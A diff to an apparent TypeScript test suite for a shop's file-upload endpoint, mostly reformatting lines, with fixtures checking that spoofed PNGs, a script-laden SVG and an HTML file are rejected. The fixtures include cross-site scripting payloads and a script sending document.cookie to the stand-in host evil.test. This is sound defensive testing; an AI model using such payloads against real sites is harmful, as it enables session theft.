@@ -24,7 +24,12 @@ function claimedPng(width: number, height: number): Buffer {
   header.writeUInt32BE(width, 0);
   header.writeUInt32BE(height, 4);
   header.set([8, 0, 0, 0, 0], 8);
-  return Buffer.concat([PNG_SIGNATURE, chunk('IHDR', header), chunk('IDAT', deflateSync(Buffer.alloc(64))), chunk('IEND', Buffer.alloc(0))]);
+  return Buffer.concat([
+    PNG_SIGNATURE,
+    chunk('IHDR', header),
+    chunk('IDAT', deflateSync(Buffer.alloc(64))),
+    chunk('IEND', Buffer.alloc(0)),
+  ]);
 }
 
 async function upload(bytes: Uint8Array, name: string, type: string): Promise<Reply> {
@@ -39,7 +44,8 @@ async function upload(bytes: Uint8Array, name: string, type: string): Promise<Re
   return { status: response.status, text, headers: response.headers, body: JSON.parse(text) };
 }
 
-const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
+const SVG =
+  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(document.cookie)</script><rect width="10" height="10"/></svg>';
 const HTML = '<!doctype html><html><body><script>fetch("https://evil.test/?c="+document.cookie)</script></body></html>';
 
 beforeAll(async () => {
@@ -108,7 +114,11 @@ describe('uploads that lie or overwhelm', () => {
     const json = await shop.call('post', '/uploads', { as: shopper, body: { file: HTML } });
     expectNoLeak(json);
     expect(json.status).toBe(400);
-    const empty = await fetch(`${shop.backend.baseUrl}/uploads`, { method: 'POST', body: new FormData(), headers: { authorization: `Bearer ${token}` } });
+    const empty = await fetch(`${shop.backend.baseUrl}/uploads`, {
+      method: 'POST',
+      body: new FormData(),
+      headers: { authorization: `Bearer ${token}` },
+    });
     expect(empty.status).toBe(400);
     await expectNothingChanged();
   });
